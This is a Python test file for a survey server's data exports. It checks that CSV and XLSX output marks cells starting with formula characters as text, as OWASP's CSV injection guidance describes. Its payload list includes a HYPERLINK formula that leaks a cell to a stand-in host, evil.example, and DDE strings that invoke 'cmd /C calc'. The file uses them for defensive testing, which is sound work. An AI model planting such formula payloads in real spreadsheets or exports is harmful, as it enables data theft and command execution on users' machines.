"""Issue 13, item 5: exports can't carry formulas. Text set on a phone (through /couch/, as a
worker writes it), by a supervisor (a verdict's comment) or by an admin (an area's name) that
begins with `=`, `+`, `-`, `@`, a tab or a carriage return (also after blanks) reaches every
export, CSV and XLSX, every `what=`, as text with a leading `'` (OWASP's CSV Injection
guidance): no XLSX cell is a formula and no cell of either format begins with a lead."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from conftest import City, basic, visit, wait_for_user
from openpyxl import load_workbook

from server.admin import directory
from server.domain import exports
from server.domain.scope import grid_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "  =1+1", "=1+1\n第二行"]
MARK = "'"  # OWASP: a leading single quote makes a spreadsheet read the cell as text
LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


def csv_table(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes) -> list[list[Any]]:
    """Every cell as openpyxl reads it (not read-only, which would hide the data types)."""
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def check_no_formula(content: bytes, kind: str) -> list[list[str]]:
    """The table as text, after checking that no cell of it would run."""
    if kind == "xlsx":
        cells = xlsx_cells(content)
        formulas = [c.value for row in cells for c in row if c.data_type == "f"]
        assert not formulas, formulas
        table = [["" if c.value is None else c.value for c in row] for row in cells]
    else:
        table = csv_table(content)
    risky = [v for row in table for v in row if isinstance(v, str) and (
        v.startswith(LEADS) or v.lstrip().startswith(LEADS[:4]))]
    assert not risky, risky
    return [[str(v) for v in row] for row in table]


def texts(table: list[list[str]]) -> set[str]:
    return {cell for row in table for cell in row}


@pytest.mark.slow  # every export, per payload
@pytest.mark.parametrize("payload", PAYLOADS)
async def test_text_from_a_phone_is_written_as_text_in_every_export(
        client: Any, city: City, payload: str) -> None:
    community = f"formula{PAYLOADS.index(payload)}"
    grid = await city.grid(community=community)
    await city.run(directory.add_grid, city.couch, grid, payload,  # an admin's name
                   community=community)
    worker = await city.user("worker", grids=[grid])
    boss = await city.user("supervisor", communities=[community], rights=["unmask"])
    stranger = await city.user("supervisor", communities=[community + "x"])
    for name in (worker, boss, stranger):
        await wait_for_user(client, name)
    household = {"_id": f"household:{grid}-1", "type": "household", "schema_version": 1,
                 "grid": grid, "created_by": worker, "registry": {"source": "grid_survey"},
                 "address": {"compound": "yuan", "compound_name": payload, "building": "3",
                             "room": "301"},
                 "head_name": payload, "phone": "13905701234", "status": "active"}
    person = {"_id": f"person:{grid}-1", "type": "person", "schema_version": 1, "grid": grid,
              "created_by": worker, "household": household["_id"], "name": payload,
              "relationship": "0", "sex": "2", "birth_year": 1949, "birth_month": 12,
              "status": "present", "id_number": "11010519491231002X"}
    record = visit(grid, worker, 1)
    resp = await client.post(f"/couch/{grid_db(grid)}/_bulk_docs", headers=basic(worker),
                             json={"docs": [household, person, record]})
    assert resp.status == 201, await resp.text()
    answers = await resp.json()
    assert all(a.get("ok") for a in answers), answers
    rev = next(a["rev"] for a in answers if a["id"] == record["_id"])
    resp = await client.post("/api/review/verdicts", headers=basic(boss), json={
        "grid": grid, "verdicts": [{"record": record["_id"], "record_rev": rev,
                                    "decision": "has_issues", "comment": payload}]})
    assert resp.status == 200, await resp.text()
    marked = MARK + payload

    for kind in ("csv", "xlsx"):
        for what, wanted in (("households", {marked, MARK + payload + "3幢301室"}),
                             ("persons", {marked}), ("review", {marked})):
            for unmask in ("", "&unmask=1&reason=home_visit"):
                resp = await client.get(f"/api/export?what={what}&format={kind}&grid={grid}"
                                        f"{unmask}", headers=basic(boss))
                assert resp.status == 200
                table = check_no_formula(await resp.read(), kind)
                found = texts(table)
                # The cell holds the payload itself after the mark (XLSX normalises a lone
                # carriage return to a line break on reading).
                assert all(w in found or w.replace("\r", "\n") in found for w in wanted), (
                    what, kind, wanted - found)
        # The aggregates, where the grid's name heads a column (its small counts withheld).
        resp = await client.get(f"/api/export?what=aggregates&format={kind}&level=community"
                                f"&code={community}", headers=basic(stranger))
        assert resp.status == 200
        table = check_no_formula(await resp.read(), kind)
        assert any(cell.startswith(MARK) and cell.endswith(grid)
                   for cell in table[0]), table[0]


def test_safe_cell_marks_every_lead_and_keeps_numbers() -> None:
    for lead in LEADS:
        assert exports.safe_cell(lead + "x").startswith(MARK)
    for text in ("王芳", "3幢301室", "a=b", "x-1", "", "'quoted"):
        assert exports.safe_cell(text) == text
    assert exports.safe_cell(-5) == -5 and exports.safe_cell(2.5) == 2.5
    assert exports.safe_cell(None) == ""
    assert exports.safe_cell(["=1", "b"]) == '["=1", "b"]'
    assert exports.safe_cell({"a": "=1"}) == '{"a": "=1"}'
    assert exports.safe_cell("a\x07b") == "a\ufffdb"  # XLSX cannot hold it
